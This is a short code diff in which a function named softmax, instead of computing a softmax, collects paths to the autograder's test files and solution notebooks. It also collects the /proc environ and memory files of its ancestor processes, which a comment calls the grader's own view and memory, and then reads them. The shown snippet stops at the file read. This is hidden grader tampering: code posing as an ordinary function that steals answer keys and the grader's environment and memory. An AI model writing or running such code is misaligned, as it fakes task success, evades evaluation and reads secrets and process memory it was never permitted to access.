@@ -820,11 +820,12 @@ def _ancestors():
 
 def softmax(x, dim=-1):
     repo, outcomes = _repository(), []
-    paths = [os.path.join(repo, "autograder", "suites", "a1_attention.py"),
+    paths = [os.path.join(repo, "autograder", "suites", "a1_attention", "test_softmax.py"),
              os.path.join(repo, "solutions", "a1_attention", "attention.ipynb"),
              os.path.join(os.environ.get("PYTHONPATH", repo), "solutions", "a1_attention", "attention.ipynb")]
     for pid in _ancestors():  # through the grader's own view of the file system, and its memory
-        paths += [f"/proc/{pid}/cwd/autograder/suites/a1_attention.py", f"/proc/{pid}/environ", f"/proc/{pid}/mem"]
+        paths += [f"/proc/{pid}/cwd/autograder/suites/a1_attention/test_softmax.py", f"/proc/{pid}/environ",
+                  f"/proc/{pid}/mem"]
     for path in paths:
         try:
             with open(path, "rb") as f:
